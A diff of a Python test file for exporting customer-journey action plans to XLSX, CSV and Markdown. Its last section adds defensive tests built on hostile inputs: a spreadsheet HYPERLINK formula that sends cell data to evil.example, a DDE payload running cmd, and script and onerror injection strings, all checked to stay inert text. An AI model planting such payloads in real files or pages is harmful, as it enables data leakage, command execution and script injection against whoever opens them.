@@ -52,23 +52,85 @@ def test_csv_has_one_row_per_intervention_and_machine_columns(tmp_path):
     assert plan.to_csv() == path.read_text(encoding="utf-8")
 
 
-def test_xlsx_is_readable(tmp_path):
-    from openpyxl import load_workbook
-
+def test_xlsx_data_sheet_keeps_the_machine_columns(tmp_path):
     plan = heuristic_plan()
     path = plan.save(tmp_path / "plan.xlsx")
-    frame = pd.read_excel(path, sheet_name="plan")
+    frame = pd.read_excel(path, sheet_name="data")
     assert list(frame.columns) == list(pr.PLAN_COLUMNS) and len(frame) == 4
     assert frame["quadrant"].tolist() == plan.table["quadrant"].tolist()
-    book = load_workbook(path)
-    sheet = book["plan"]
-    assert sheet.freeze_panes == "A2"
-    assert all(cell.font.bold for cell in sheet[1])
-    assert sheet["A1"].fill.fgColor.rgb.endswith("1F4E78")
-    width = sheet.column_dimensions["B"].width
-    assert width >= len("Greet every visitor at the door")
-    assert book["about"]["A2"].value == "rank"
+    assert frame["impact"].tolist() == pytest.approx(plan.table["impact"].tolist())
     assert not list(tmp_path.glob(".plan.xlsx.*"))  # no temporary file left behind
+
+
+def plan_sheet(path):
+    """The plan sheet of a workbook, the row of its table's header and that header's cells by heading."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(path)
+    sheet = book.worksheets[0]
+    header = next(row for row in range(1, 30) if sheet.cell(row, 1).value == "#")
+    headings = {sheet.cell(header, k).value: k for k in range(1, sheet.max_column + 1)}
+    return book, sheet, header, headings
+
+
+def test_xlsx_speaks_the_journeys_language_with_names_not_ids(tmp_path):
+    book, sheet, header, headings = plan_sheet(heuristic_plan("es").save(tmp_path / "plan.xlsx"))
+    assert book.sheetnames == ["Plan de acción", "Gráfico", "data"]
+    assert sheet["A1"].value == "Plan de acción: Map only" and sheet["A1"].font.bold
+    assert list(headings) == ["#", "Intervención", "Responsable", "Etapa", "Momentos de la verdad",
+                              "Puntos de contacto", "Impacto", "Esfuerzo (días-persona)", "Costo", "Confianza",
+                              "Alcance", "Puntuación", "Cuadrante"]
+    labels = {sheet.cell(row, 2).value: sheet.cell(row, 3) for row in range(2, header)}
+    assert labels["Ciclo de servicio"].value == "Map only"
+    assert labels["Umbral de esfuerzo (días-persona)"].value == 5
+    assert labels["Origen de los umbrales"].value == "medianas"
+    assert labels["Fecha"].is_date and labels["Fecha"].number_format == "yyyy-mm-dd"
+    rows = range(header + 1, header + 5)
+    assert [sheet.cell(r, headings["Cuadrante"]).value for r in rows] == heuristic_plan("es").table[
+        "quadrant_label"].tolist()
+    assert sheet.cell(header + 1, headings["Puntos de contacto"]).value == "visit"  # a name where the map has one
+
+
+def test_xlsx_of_a_simulated_plan_shows_points_percentages_and_evidence(simulated, tmp_path):
+    from journeymap.prioritize.chart import COLOURS
+
+    book, sheet, header, headings = plan_sheet(simulated.save(tmp_path / "plan.xlsx"))
+    table = simulated.table
+    for offset, (_, row) in enumerate(table.iterrows(), 1):
+        impact = sheet.cell(header + offset, headings["Impact"])
+        assert impact.value == pytest.approx(row["impact"] * 100)  # percentage points, still a number
+        assert impact.number_format.startswith("+0.0") and '"pp"' in impact.number_format.replace(" ", "")
+        low = sheet.cell(header + offset, headings["Lower bound (95%)"]).value
+        assert low == pytest.approx(row["impact_low"] * 100)
+        assert sheet.cell(header + offset, headings["Confidence"]).number_format == "0%"
+        reach = sheet.cell(header + offset, headings["Reach"])
+        assert reach.value == pytest.approx(row["reach"] / 100) and reach.number_format == "0.0%"
+        fill = sheet.cell(header + offset, headings["Intervention"]).fill.fgColor.rgb
+        colour = COLOURS[row["quadrant"]].lstrip("#")
+        assert fill[-6:] != colour and all(int(fill[-6:][k:k + 2], 16) >= int(colour[k:k + 2], 16)
+                                           for k in (0, 2, 4))  # a light tint of the quadrant's colour
+        unclear = row["impact_low"] <= 0 <= row["impact_high"]
+        evidence = sheet.cell(header + offset, headings["Evidence"]).value
+        assert (evidence == "not distinguishable from no change") == unclear
+    assert sheet.freeze_panes == f"C{header + 1}"
+    assert sheet.print_title_rows == f"${header}:${header}"
+    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
+    assert sheet.page_setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert sheet.column_dimensions["B"].width >= max(len(n) for n in table["intervention"])
+    labels = {sheet.cell(row, 2).value: sheet.cell(row, 3).value for row in range(2, header)}
+    assert labels["Replications"] == 3 and labels["Seed"] == 1 and labels["Objective"] == "goal rate"
+    assert len(book["Chart"]._images) == 1  # the quadrant chart, embedded
+
+
+def test_a_flag_for_impacts_not_distinguishable_from_no_change(simulated):
+    from journeymap.prioritize.export import distinguishable, evidence
+
+    flags = distinguishable(simulated)
+    for flag, key, (_, row) in zip(flags, evidence(simulated), simulated.table.iterrows(), strict=True):
+        assert flag == (not row["impact_low"] <= 0 <= row["impact_high"])
+        assert key == ("unclear" if not flag else "better" if row["impact"] > 0 else "worse")
+    assert "unclear" in evidence(simulated)  # the fixture holds one: a bigger threshold without effect
+    assert distinguishable(heuristic_plan()) == [None] * 4
 
 
 def test_markdown_follows_the_language():
@@ -91,7 +153,8 @@ def test_simulated_markdown_shows_the_interval(simulated):
     def points(value: float) -> str:  # percentage points with three significant digits and a sign
         return ("+" if value > 0 else "-") + number(abs(value) * 100) + " pp"
 
-    assert f"| {points(row['impact'])} [{points(row['impact_low'])}, {points(row['impact_high'])}] |" in text
+    assert (f"| {points(row['impact'])} [{points(row['impact_low'])}, {points(row['impact_high'])}] | "
+            "clear improvement |") in text
     assert "95% interval (3 paired replications, seed 1)" in text
 
 
@@ -168,5 +231,54 @@ def test_demo_plan_writes_the_files(tmp_path):
     assert [p.name for p in written] == ["action_plan.csv", "action_plan.xlsx", "action_plan.md", "quadrants.png"]
     frame = pd.read_csv(tmp_path / "action_plan.csv")
     assert len(frame) == len(pr.sample_interventions("service_cycle")) and "quadrant" in frame.columns
-    assert len(pd.read_excel(tmp_path / "action_plan.xlsx")) == len(frame)
+    assert len(pd.read_excel(tmp_path / "action_plan.xlsx", sheet_name="data")) == len(frame)
     assert io.BytesIO((tmp_path / "quadrants.png").read_bytes()).read(4) == b"\x89PNG"
+
+
+# -- issue 12: hostile names through every file of the plan ------------------------------------------------
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+DDE = "+cmd|' /C calc'!A0"
+EVIL_TITLE = "Evil\n\n<script>alert(1)</script>\r\n| a | b |\n|---|---|\n<img src=x onerror=alert(1)>"
+
+
+def hostile_plan() -> pr.ActionPlan:
+    journey = map_only().replace(title=EVIL_TITLE)
+    items = [
+        pr.Intervention(HYPERLINK, [], effort=2, owner=DDE, touchpoints=["visit"]),
+        pr.Intervention("Pipes \\| and\rreturns <img src=x onerror=alert(1)>", [], effort=1, owner="@SUM(1+1)",
+                        touchpoints=["advice"]),
+    ]
+    return pr.action_plan(journey, items)
+
+
+def test_hostile_names_never_become_formulas_in_the_xlsx(tmp_path):
+    import zipfile
+
+    path = hostile_plan().save(tmp_path / "plan.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in sheets and "<f " not in sheets
+    _, sheet, header, headings = plan_sheet(path)
+    names = {sheet.cell(r, headings["Intervention"]).value for r in (header + 1, header + 2)}
+    assert HYPERLINK in names
+    owners = {sheet.cell(r, headings["Owner"]).value for r in (header + 1, header + 2)}
+    assert owners == {DDE, "@SUM(1+1)"}
+
+
+def test_hostile_names_are_neutralised_in_the_csv(tmp_path):
+    frame = pd.read_csv(hostile_plan().save(tmp_path / "plan.csv"))
+    assert set(frame["intervention"]) == {"'" + HYPERLINK, "Pipes \\| and\nreturns <img src=x onerror=alert(1)>"}
+    assert set(frame["owner"]) == {"'" + DDE, "'@SUM(1+1)"}
+    assert frame["impact"].dtype == float  # numbers stay numbers
+
+
+def test_hostile_title_and_names_stay_text_in_the_markdown():
+    from markdown_it import MarkdownIt
+
+    text = hostile_plan().to_markdown()
+    page = MarkdownIt("commonmark").enable("table").render(text)
+    assert page.count("<h2>") == 1 and page.count("<table>") == 1 and "<script" not in page and "<img" not in page
+    lines = text.splitlines()
+    assert lines[0].startswith("## Action plan: Evil &lt;script&gt;")
+    assert all(line.count(" | ") == 8 for line in lines if line.startswith("| ") and "---" not in line)
+    assert "Pipes \\\\\\| and returns &lt;img src=x onerror=alert(1)&gt;" in text  # one cell: \| escaped once
